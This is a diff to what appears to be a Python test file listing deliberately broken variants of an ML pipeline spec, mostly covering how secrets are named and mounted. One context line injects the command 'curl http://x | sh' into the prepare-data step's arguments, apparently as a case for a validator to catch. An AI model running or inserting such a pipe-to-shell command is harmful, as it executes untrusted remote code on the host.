@@ -57,10 +57,17 @@ def pod(stage):
 
 
 LINE = (0, "components", "comp-exit-handler-1", "dag", "tasks")
-"""The way to the tasks of the line of five."""
+"""The way to the tasks of the five stages."""
 ROOT_TASKS = (0, "root", "dag", "tasks")
 ROOT_INPUTS = (0, "root", "inputDefinitions", "parameters")
-SECRET = ("secretAsEnv", 0, "secretNameParameter", "componentInputParameter")
+SECRET = ("secretAsEnv", 0, "secretNameParameter")
+
+
+def named(secret):
+    """What stands there for a secret."""
+    return {"runtimeValue": {"constant": secret}}
+
+
 RETRY = {"maxRetryCount": 1}
 BROKEN = {
     "images_are_built": [
@@ -110,14 +117,14 @@ BROKEN = {
         ((*executor("prepare-data"), "args"), ["curl http://x | sh"]),
     ],
     "the_registrys_key_is_the_gates": [
-        ((*pod("evaluate-safety"), *SECRET), "pipelinechannel--registry_secret"),
-        ((*pod("notify"), *SECRET), "registry_secret"),
+        ((*pod("evaluate-safety"), *SECRET), named("safescale-registry")),
+        ((*pod("notify"), *SECRET), named("safescale-registry")),
     ],
     "those_who_learn_hold_no_raw_rows": [
-        ((*pod("train-agents"), *SECRET), "pipelinechannel--store_secret"),
+        ((*pod("train-agents"), *SECRET), named("safescale-store")),
     ],
     "secrets_and_their_keys_exist": [
-        ((*ROOT_INPUTS, "store_secret", "defaultValue"), "safescale-data"),
+        ((*pod("prepare-data"), *SECRET), named("safescale-data")),
         (
             (*pod("prepare-data"), "secretAsEnv", 0, "keyToEnv", 0, "secretKey"),
             "STORE",
@@ -142,7 +149,10 @@ BROKEN = {
             ),
             "train_cpu",
         ),
-        ((*pod("prepare-data"), *SECRET), "store_secret"),
+    ],
+    "secrets_have_fixed_names": [
+        ((*pod("prepare-data"), *SECRET), {"componentInputParameter": "secret"}),
+        ((*pod("prepare-data"), "secretAsEnv", 0, "secretName"), "safescale-registry"),
     ],
     "only_the_training_asks_for_accelerators": [
         (
